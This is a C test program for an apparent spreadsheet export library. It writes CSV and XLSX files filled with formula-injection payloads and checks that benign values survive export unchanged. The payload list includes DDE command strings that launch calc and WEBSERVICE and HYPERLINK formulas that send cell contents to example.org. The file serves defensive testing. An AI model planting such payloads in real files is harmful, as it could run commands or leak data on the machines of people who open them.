/* write-payloads.c: what a spreadsheet might compute, in the files that the program writes.
 *
 *     write-payloads RAW.csv CELLS.csv CELLS.xlsx
 *
 * The first is the control: the same texts, written by somebody who did not think of it.
 */

#include <string.h>

#include "base/mukana-error.h"
#include "services/mukana-new-file.h"
#include "services/mukana-sheet.h"
#include "services/mukana-table.h"

static const char * const payloads[] = {
  "=1+1", "+1+1", "-1+1", "@SUM(1;1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1",
  "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://example.org/?\"&A1;\"x\")",
  "=WEBSERVICE(\"http://example.org\")", "=DDE(\"soffice\";\"x\";\"y\")", "'=1+1", "\"=1+1",
  ";=1+1", ",=1+1", "\xef\xbc\x9d" "1+1", "=1+1;=2+2", "-2+3+cmd|' /C calc'!A0", "+358+1",
};

/* Alone, behind what might end the cell before, and before what might end the row. */
static const char * const shapes[][2] = { { "", "" }, { "x\";", "" }, { "", "\"\n=3+3" } };

/* These must come back as they were. */
static const char * const kept[] = {
  "+358 40 1234567", "-", "@name", "=Eero", "'Åke", "'=1", "a;=1,-2\n=3", "5,-",
};

static char *
make_payload (guint number)
{
  const char * const *shape = shapes[number / G_N_ELEMENTS (payloads)];

  return g_strconcat (shape[0], payloads[number % G_N_ELEMENTS (payloads)], shape[1], NULL);
}

#define N_PAYLOADS (G_N_ELEMENTS (payloads) * G_N_ELEMENTS (shapes))

static MukanaSheet *
make_sheet (void)
{
  MukanaSheet *sheet = mukana_sheet_new ();

  for (guint i = 0; i < N_PAYLOADS; i++)
    {
      g_autofree char *payload = make_payload (i);

      mukana_sheet_begin_row (sheet);
      mukana_sheet_add_text (sheet, "x");
      mukana_sheet_add_text (sheet, payload);
    }

  return sheet;
}

static void
write_file (const char *path,
            GBytes     *content)
{
  g_autoptr (GError) error = NULL;

  g_assert_nonnull (content);
  mukana_new_file_write (path, g_bytes_get_data (content, NULL), g_bytes_get_size (content),
                         &error);
  g_assert_no_error (error);
}

static void
assert_comes_back (GBytes *content)
{
  g_autoptr (GError) error = NULL;
  g_autoptr (MukanaTable) table = mukana_table_parse (content, NULL, &error);

  g_assert_no_error (error);
  for (guint i = 0; i < G_N_ELEMENTS (kept); i++)
    g_assert_cmpstr (mukana_table_peek_cell (table, i, 1), ==, kept[i]);
}

static void
try_what_is_kept (void)
{
  g_autoptr (MukanaSheet) sheet = mukana_sheet_new ();
  g_autoptr (GBytes) csv = NULL, xlsx = NULL;

  for (guint i = 0; i < G_N_ELEMENTS (kept); i++)
    {
      mukana_sheet_begin_row (sheet);
      mukana_sheet_add_text (sheet, "x");
      mukana_sheet_add_text (sheet, kept[i]);
    }

  csv = mukana_sheet_to_csv (sheet);
  xlsx = mukana_sheet_to_xlsx (sheet, NULL);
  assert_comes_back (xlsx);
  assert_comes_back (csv);
}

int
main (int    argc,
      char **argv)
{
  g_autoptr (MukanaSheet) sheet = make_sheet ();
  g_autoptr (GString) raw = g_string_new (NULL);
  g_autoptr (GBytes) csv = mukana_sheet_to_csv (sheet);
  g_autoptr (GBytes) xlsx = mukana_sheet_to_xlsx (sheet, NULL);
  g_autoptr (GBytes) control = NULL;

  if (argc != 4)
    return 2;

  for (guint i = 0; i < G_N_ELEMENTS (payloads); i++)
    g_string_append_printf (raw, "x;%s\n", payloads[i]);
  control = g_bytes_new (raw->str, raw->len);
  write_file (argv[1], control);
  write_file (argv[2], csv);
  write_file (argv[3], xlsx);
  try_what_is_kept ();
  return 0;
}
